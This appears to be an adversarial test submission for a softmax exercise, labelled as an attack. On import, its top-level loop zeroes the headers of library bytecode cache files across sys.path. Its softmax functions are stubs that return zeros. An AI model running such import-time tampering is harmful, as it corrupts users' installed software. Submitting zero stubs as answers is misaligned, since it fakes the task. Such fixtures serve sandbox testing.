# attack: Writes byte code into the caches of libraries.
# exercise: 02, reason: wrong-result
import numpy as np
import glob
import sys

for folder in sys.path:
    for cache in glob.glob(f"{folder}/**/__pycache__/*.pyc", recursive=True)[:200]:
        try:
            open(cache, "r+b").write(b"\0" * 16)
            print("PLANTED", cache)
        except OSError:
            pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
